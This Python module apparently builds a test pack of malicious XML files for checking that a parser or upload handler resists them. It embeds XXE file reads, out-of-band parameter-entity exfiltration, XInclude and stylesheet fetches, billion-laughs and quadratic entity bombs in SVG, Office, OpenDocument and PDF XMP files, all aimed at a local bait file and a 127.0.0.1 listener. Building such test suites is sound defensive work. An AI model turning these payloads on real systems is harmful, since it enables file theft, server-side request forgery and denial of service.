"""XML that makes a careless reader open files, call servers or fill memory, in each container that has XML.

Sources of the tricks: OWASP's "XML external entity prevention cheat sheet"; Timothy Morgan and Omar Al
Ibrahim, "XML schema, DTD, and entity attacks" (parameter entities, reading out of band); CVE-2003-1564
(exponential entities, "billion laughs") and its quadratic form; W3C XInclude 1.0; W3C xml-stylesheet;
Willis Vandevanter, "Exploiting XXE in file upload functionality" (DOCX, XLSX, ODT, SVG, XMP).
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from pathlib import Path

from sample_files import docx_file, xlsx_file
from zip_package import ods_content, ods_file, odt_file, with_change


def attacks(bait: Path, port: int) -> Iterator[tuple[str, str, bytes]]:
    """The pack.

    Args:
        bait: A file whose content must not appear anywhere.
        port: Of a listener that nobody should connect to.

    Returns:
        For each attack what it is, a file name, and the file.
    """
    prologues = _prologues(bait.as_uri(), f"http://127.0.0.1:{port}/xxe")
    for name, (prologue, use) in prologues.items():
        svg = (
            f'<?xml version="1.0"?>{prologue}<svg xmlns="http://www.w3.org/2000/svg"><text>{use}</text></svg>'
        )
        yield f"{name} in SVG", "a.svg", svg.encode()
        yield f"{name} in DOCX", "a.docx", _in_docx(prologue, use)
        yield f"{name} in XLSX", "a.xlsx", _in_xlsx(prologue, use)
        yield f"{name} in ODS", "a.ods", ods_file(ods_content((("Part", use),), prologue=prologue))
    first, use = prologues["a file"]
    yield "a file in ODT", "a.odt", odt_file(f"<?xml version='1.0'?>{first}<office>{use}</office>".encode())
    yield "a file in XML", "a.xml", f"<?xml version='1.0'?>{first}<note>{use}</note>".encode()
    yield "a file in XHTML", "a.html", f"<?xml version='1.0'?>{first}<html><p>{use}</p></html>".encode()
    yield "a file in UTF-16", "b.svg", f"<?xml version='1.0'?>{first}<svg>{use}</svg>".encode("utf-16")
    yield "a file in XMP", "a.pdf", _in_xmp(first, use)
    yield "a file in relations", "r.docx", _in_relations(first)
    yield "a file in core properties", "c.docx", _in_properties(first, use)


def _prologues(file: str, url: str) -> Mapping[str, tuple[str, str]]:
    laughs = "".join(
        f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' if level else '<!ENTITY l0 "lol">'
        for level in range(10)
    )
    include = '<x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" href="{}"/>'
    return {
        "a file": (f'<!DOCTYPE r [<!ENTITY e SYSTEM "{file}">]>', "&e;"),
        "a public file": (f'<!DOCTYPE r [<!ENTITY e PUBLIC "p" "{file}">]>', "&e;"),
        "a server": (f'<!DOCTYPE r [<!ENTITY e SYSTEM "{url}">]>', "&e;"),
        "an outer DTD": (f'<!DOCTYPE r SYSTEM "{url}.dtd">', "plain"),
        "a parameter entity": (f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}.dtd"> %p;]>', "plain"),
        "a file sent away": (
            f'<!DOCTYPE r [<!ENTITY % f SYSTEM "{file}"><!ENTITY % p SYSTEM "{url}.dtd"> %p; %s;]>',
            "&leak;",
        ),
        "billion laughs": (f"<!DOCTYPE r [{laughs}]>", "&l9;"),
        "quadratic growth": (f'<!DOCTYPE r [<!ENTITY q "{"q" * 50_000}">]>', "&q;" * 20_000),
        "an entity of itself": ('<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
        "an inclusion of a file": ("", include.format(file)),
        "an inclusion of a server": ("", include.format(url)),
        "a style sheet": (f'<?xml-stylesheet type="text/xsl" href="{url}.xsl"?>', "plain"),
        "an attribute": (f'<!DOCTYPE r [<!ATTLIST r a CDATA "x"><!ENTITY e SYSTEM "{file}">]>', "plain"),
    }


def _in_docx(prologue: str, use: str) -> bytes:
    def change(part: bytes) -> bytes:
        return _behind_declaration(part, prologue).replace(b"<w:t>", f"<w:t>{use}".encode(), 1)

    return with_change(docx_file(), "word/document.xml", change)


def _in_xlsx(prologue: str, use: str) -> bytes:
    def change(part: bytes) -> bytes:
        return _behind_declaration(part, prologue).replace(b"Shuttle", use.encode(), 1)

    return with_change(xlsx_file(), "xl/worksheets/sheet1.xml", change)


def _in_relations(prologue: str) -> bytes:
    def change(part: bytes) -> bytes:
        return _behind_declaration(part, prologue).replace(b'Target="', b'Target="&e;', 1)

    return with_change(docx_file(), "word/_rels/document.xml.rels", change)


def _in_properties(prologue: str, use: str) -> bytes:
    def change(part: bytes) -> bytes:
        text = _behind_declaration(part, prologue)
        return text.replace(b"<dc:title/>", f"<dc:title>{use}</dc:title>".encode(), 1)

    return with_change(docx_file(), "docProps/core.xml", change)


def _behind_declaration(part: bytes, prologue: str) -> bytes:
    if not part.startswith(b"<?xml"):
        return prologue.encode() + part
    declaration, end, rest = part.partition(b"?>")
    return declaration + end + prologue.encode() + rest


def _in_xmp(prologue: str, use: str) -> bytes:
    import io

    import pikepdf
    from sample_files import pdf_file

    packet = (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        f'{prologue}<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{use}</dc:title></rdf:Description>'
        '</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    )
    with pikepdf.open(io.BytesIO(pdf_file())) as pdf:
        stream = pdf.make_stream(packet.encode())
        stream["/Type"] = pikepdf.Name("/Metadata")
        stream["/Subtype"] = pikepdf.Name("/XML")
        pdf.Root["/Metadata"] = stream
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()
